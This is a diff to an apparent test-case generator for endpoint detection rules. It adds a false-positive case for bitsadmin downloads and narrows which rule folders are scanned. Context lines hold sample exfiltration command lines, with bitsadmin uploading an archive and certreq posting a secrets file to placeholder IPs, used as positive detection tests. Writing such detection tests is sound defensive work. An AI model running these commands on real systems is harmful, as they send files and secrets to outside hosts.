@@ -189,7 +189,11 @@ CASES = {
             event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin.exe /create /upload exfiljob", original="bitsadmin.exe")),
             event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin /transfer j1 /upload /priority high https://198.51.100.4/u C:\\Users\\Public\\a.zip", original="bitsadmin.exe")),
         ],
-        "neg": [event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin /transfer j1 /download /priority normal https://dl.example.com/a.msi C:\\temp\\a.msi", original="bitsadmin.exe"))],
+        "neg": [
+            event("sysmon1", proc(SYS32 + "bitsadmin.exe", "bitsadmin /transfer j1 /download /priority normal https://dl.example.com/a.msi C:\\temp\\a.msi", original="bitsadmin.exe")),
+            # a download whose URL path contains "/uploads/" is not an upload job
+            event("sec4688", {"NewProcessName": SYS32 + "bitsadmin.exe", "CommandLine": "bitsadmin  /transfer j2 https://www.example.org/wp-content/uploads/2020/11/card.jpg c:\\img.png", "ParentProcessName": SYS32 + "cmd.exe", "SubjectUserName": "jdoe"}),
+        ],
     },
     "proc_certreq_post_upload": {
         "pos": [event("sysmon1", proc(SYS32 + "certreq.exe", "certreq.exe -Post -config https://198.51.100.6/ C:\\Users\\Public\\secrets.txt out.txt", original="CertReq.exe"))],
@@ -437,11 +441,17 @@ CASES = {
 }
 
 
+GENERATED_FOLDERS = ("windows", "linux", "correlation")
+
+
 def main():
     rules_root = os.path.dirname(HERE)
+    # Endpoint rules get their events from this script; other folders (cloud audit
+    # logs) keep hand-written events in their source's own format next to these.
     stems = {
         os.path.splitext(name)[0]
-        for folder, _, names in os.walk(rules_root)
+        for top in GENERATED_FOLDERS
+        for folder, _, names in os.walk(os.path.join(rules_root, top))
         for name in names
         if name.endswith(".yml")
     }
